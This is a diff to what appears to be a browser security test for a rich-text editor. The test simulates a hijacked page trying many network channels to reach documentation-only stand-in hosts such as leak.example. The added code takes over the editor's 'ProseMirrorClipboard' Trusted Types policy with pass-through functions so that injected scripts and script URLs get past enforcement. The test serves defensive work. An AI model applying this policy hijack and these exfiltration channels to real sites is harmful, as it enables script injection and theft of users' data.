@@ -1,6 +1,14 @@
 /** Addresses that nobody has: for documentation (RFC 5737, RFC 3849, RFC 2606). */
 export const outside = { v4: '192.0.2.1', v6: '[2001:db8::1]', name: 'leak.example' }
 
+interface TrustedTypes {
+  createPolicy(
+    name: string,
+    rules: object,
+  ): Readonly<Record<'createHTML' | 'createScript' | 'createScriptURL', (text: string) => string>>
+  getAttributeType(tag: string, attribute: string, namespace: string): string | null
+}
+
 /**
  * Every way out that a page knows, tried by a script that has taken the page over. Runs in the page. Gives what each way answered
  * at once; what counts is what leaves the computer.
@@ -16,10 +24,24 @@ export async function tryToEscape({ v4, v6, name }: typeof outside): Promise<Rea
       answers[way] = `refused: ${(error as Error).name}`
     }
   }
+  // Whoever has taken the page over takes the policy that the editor makes at its first paste, and so passes all trusted types.
+  const { trustedTypes } = window as unknown as { readonly trustedTypes: TrustedTypes }
+  const pass = (text: string): string => text
+  const taken = trustedTypes.createPolicy('ProseMirrorClipboard', {
+    createHTML: pass,
+    createScript: pass,
+    createScriptURL: pass,
+  })
+  const set = (element: Element, key: string, value: string): void => {
+    const type = trustedTypes.getAttributeType(element.localName, key, element.namespaceURI ?? '')
+    const html = type === 'TrustedHTML' ? taken.createHTML(value) : value
+    element.setAttribute(key, type === 'TrustedScriptURL' ? taken.createScriptURL(value) : html)
+  }
   const put = (tag: string, attributes: Readonly<Record<string, string>>, text = ''): HTMLElement => {
     const element = document.createElement(tag)
-    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
-    element.append(text)
+    for (const [key, value] of Object.entries(attributes)) set(element, key, value)
+    if (element instanceof HTMLScriptElement) element.text = taken.createScript(text)
+    else element.append(text)
     ;(['link', 'meta', 'style', 'base'].includes(tag) ? document.head : document.body).append(element)
     return element
   }
@@ -143,7 +165,7 @@ export async function tryToEscape({ v4, v6, name }: typeof outside): Promise<Rea
     const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg')
     for (const tag of ['image', 'use', 'feImage', 'script']) {
       const part = document.createElementNS(svg.namespaceURI ?? '', tag)
-      part.setAttribute('href', `${https}/svg.svg#a`)
+      set(part, 'href', `${https}/svg.svg#a`)
       svg.append(part)
     }
     document.body.append(svg)
@@ -154,13 +176,15 @@ export async function tryToEscape({ v4, v6, name }: typeof outside): Promise<Rea
     )
     await attempt(`reporting ${host}`, () => new ReportingObserver(() => undefined, { buffered: true }).observe())
 
-    await attempt(`worker ${host}`, () => new Worker(`${https}/worker.js`))
+    await attempt(`worker ${host}`, () => new Worker(taken.createScriptURL(`${https}/worker.js`)))
     await attempt(
       `worker of its own ${host}`,
-      () => new Worker(URL.createObjectURL(new Blob([`fetch('${https}/worker')`]))),
+      () => new Worker(taken.createScriptURL(URL.createObjectURL(new Blob([`fetch('${https}/worker')`])))),
     )
-    await attempt(`shared worker ${host}`, () => new SharedWorker(`${https}/shared.js`))
-    await attempt(`service worker ${host}`, () => navigator.serviceWorker.register(`${https}/service.js`))
+    await attempt(`shared worker ${host}`, () => new SharedWorker(taken.createScriptURL(`${https}/shared.js`)))
+    await attempt(`service worker ${host}`, () =>
+      navigator.serviceWorker.register(taken.createScriptURL(`${https}/service.js`)),
+    )
     await attempt(`import ${host}`, () => import(/* @vite-ignore */ `${https}/module.js`))
     await attempt(`worklet ${host}`, () => new AudioContext().audioWorklet.addModule(`${https}/worklet.js`))
 
